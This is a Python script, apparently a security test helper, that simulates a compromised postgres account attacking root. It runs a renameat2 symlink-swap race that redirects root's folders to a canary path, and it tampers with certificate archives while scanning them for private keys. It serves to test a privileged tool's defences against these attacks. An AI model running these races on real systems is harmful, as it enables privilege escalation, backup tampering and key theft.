"""Attacks by a compromised `postgres` while root works in its folders.

attacker.py swap SECONDS CANARY FOLDER…: replaces each FOLDER with a link to CANARY as soon as it appears, and restores it a second later.
attacker.py spoil SECONDS FOLDER: appends data once to each certificate archive that appears in FOLDER, and searches it for private keys.
Prints the results as JSON.
"""

import ctypes
import json
import os
import shutil
import sys
import time

AT_FDCWD, EXCHANGE = -100, 2
library = ctypes.CDLL(None, use_errno=True)


def exchange(one, other):
    return library.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), EXCHANGE) == 0


def swap(end, canary, *folders):
    swapped, links = 0, {folder: f'{folder}.link' for folder in folders}
    for link in links.values():
        clear(link)
        os.symlink(canary, link)
    while time.monotonic() < end:
        for folder, link in links.items():
            # Trying the call is the fastest way to check whether the folder exists.
            if exchange(folder, link):
                swapped += 1
                time.sleep(1)
                exchange(folder, link)
    for link in links.values():
        clear(link)
    return {'swapped': swapped}


def clear(link):
    """Removes the link, or the folder at its path if root has removed the link in the meantime."""
    if os.path.islink(link):
        os.unlink(link)
    else:
        shutil.rmtree(link, ignore_errors=True)


def spoil(end, folder):
    spoiled, keys = set(), 0
    while time.monotonic() < end:
        for name in ('files.tar', 'certificates.sealed'):
            try:
                with open(os.path.join(folder, name), 'r+b') as file:
                    identity, content = os.fstat(file.fileno()).st_ino, file.read()
                    keys += b'PRIVATE KEY' in content
                    if content and identity not in spoiled:
                        spoiled.add(identity)
                        file.write(b'planted')
            except OSError:
                pass
    return {'spoiled': len(spoiled), 'keys': keys}


attack, seconds, *rest = sys.argv[1:]
print(json.dumps({'swap': swap, 'spoil': spoil}[attack](time.monotonic() + float(seconds), *rest)))
